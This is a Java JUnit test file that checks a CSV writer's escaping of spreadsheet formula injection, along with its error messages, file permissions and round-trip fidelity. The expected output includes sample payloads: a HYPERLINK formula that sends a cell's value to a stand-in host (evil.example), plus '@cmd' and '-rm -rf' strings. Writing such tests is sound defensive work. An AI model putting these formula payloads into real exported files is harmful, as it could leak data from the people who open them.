package com.mstudio.engine.data.csv;

import com.mstudio.engine.api.DataTable;
import com.mstudio.engine.api.ImportResult;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

import static com.mstudio.engine.data.csv.CsvTestFiles.corpus;
import static com.mstudio.engine.data.csv.CsvTestFiles.importFile;
import static com.mstudio.engine.data.csv.CsvTestFiles.sharedData;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

class CsvWriterTest {

    @Test
    void formulaLikeTextIsEscapedAndNumbersAreNot(@TempDir Path dir) throws Exception {
        ImportResult r = importFile(corpus("formula_injection.csv"));
        Path out = dir.resolve("out.csv");
        new CsvWriter().write(r.table(), out);
        List<String> lines = Files.readAllLines(out, StandardCharsets.UTF_8);
        assertEquals(List.of(
                "id,comment,delta",
                "1,\"'=HYPERLINK(\"\"http://evil.example/?q=\"\"&A1)\",-5.0",
                "2,'+SUM(A1:A9),-3.5",
                "3,'@cmd,7.0",
                "4,'-rm -rf,2.0",
                "5,plain text,0.0"), lines);
    }

    @Test
    void aMissingFolderOrAFolderInPlaceOfTheFileIsSaidInWordsWithoutTheTempFile(@TempDir Path dir) throws Exception {
        DataTable table = importFile(corpus("formula_injection.csv")).table();
        Path noFolder = dir.resolve("nope").resolve("out.csv");
        com.mstudio.engine.api.StudioException e = org.junit.jupiter.api.Assertions.assertThrows(
                com.mstudio.engine.api.StudioException.class, () -> new CsvWriter().write(table, noFolder));
        assertEquals("The file could not be written. The folder " + noFolder.getParent().toAbsolutePath() + " does not exist.", e.reason());
        Path folder = Files.createDirectory(dir.resolve("taken.csv"));
        e = org.junit.jupiter.api.Assertions.assertThrows(
                com.mstudio.engine.api.StudioException.class, () -> new CsvWriter().write(table, folder));
        assertEquals("The file could not be written. There is a folder with this name; give a file name instead.", e.reason());
        assertFalse(e.getMessage().contains(".tmp"));
    }

    @Test
    void anExportedFileIsReadableLikeAnyNewDocument(@TempDir Path dir) throws Exception {
        // The temporary file it is written in is owner-only; the export must not keep that (POSIX only).
        org.junit.jupiter.api.Assumptions.assumeTrue(dir.getFileSystem().supportedFileAttributeViews().contains("posix"));
        Path out = dir.resolve("out.csv");
        new CsvWriter().write(importFile(corpus("formula_injection.csv")).table(), out);
        assertEquals("rw-r--r--", java.nio.file.attribute.PosixFilePermissions.toString(Files.getPosixFilePermissions(out)));
    }

    @Test
    void roundTripOfTheChurnFileKeepsEveryValueAndType(@TempDir Path dir) {
        ImportResult a = importFile(sharedData("wa_churn.csv"));
        Path out = dir.resolve("churn.csv");
        new CsvWriter().write(a.table(), out);
        ImportResult b = importFile(out);
        assertEquals(a.schema().stream().map(s -> s.type()).toList(), b.schema().stream().map(s -> s.type()).toList());
        assertSameCells(a.table(), b.table());
    }

    @Test
    void roundTripOfQuotesNewlinesDatesAndMissing(@TempDir Path dir) {
        for (String name : List.of("quoted_newlines.csv", "iso_datetimes.csv", "missing_markers.csv", "mixed_date_formats.csv",
                "gbk_chinese.csv", "semicolon_decimal_comma.csv")) {
            ImportResult a = importFile(corpus(name));
            Path out = dir.resolve(name);
            new CsvWriter().write(a.table(), out);
            ImportResult b = importFile(out);
            assertEquals("UTF-8", b.report().dialect().encoding(), name);
            assertSameCells(a.table(), b.table());
        }
    }

    @Test
    void replacesAnExistingFileAndLeavesNoTempFiles(@TempDir Path dir) throws Exception {
        Path out = dir.resolve("report.csv");
        Files.writeString(out, "old content that is longer than the new one\n".repeat(100));
        new CsvWriter().write(importFile(corpus("pipe_delimited.txt")).table(), out);
        assertEquals("sku,title,qty", Files.readAllLines(out).get(0));
        try (var s = Files.list(dir)) {
            assertEquals(List.of(out), s.toList());
        }
    }

    @Test
    void formulaCheck() {
        CellParser p = new CellParser(false);
        assertTrue(CsvWriter.isFormulaLike("=1+1", p));
        assertTrue(CsvWriter.isFormulaLike("-cmd", p));
        assertTrue(CsvWriter.isFormulaLike("+49 30 1234567", p), "a phone number with spaces is not a number");
        assertFalse(CsvWriter.isFormulaLike("-5", p));
        assertFalse(CsvWriter.isFormulaLike("+3.5", p));
        assertFalse(CsvWriter.isFormulaLike("hello", p));
        assertFalse(CsvWriter.isFormulaLike("", p));
    }

    private static void assertSameCells(DataTable a, DataTable b) {
        assertEquals(a.rowCount(), b.rowCount());
        assertEquals(a.columnCount(), b.columnCount());
        for (int c = 0; c < a.columnCount(); c++) {
            assertEquals(a.column(c).name(), b.column(c).name());
            for (int r = 0; r < a.rowCount(); r++) {
                assertEquals(a.isMissing(r, c), b.isMissing(r, c), "missing at " + r + "," + c);
                assertEquals(a.text(r, c), b.text(r, c), "row " + r + " column " + a.column(c).name());
            }
        }
    }
}
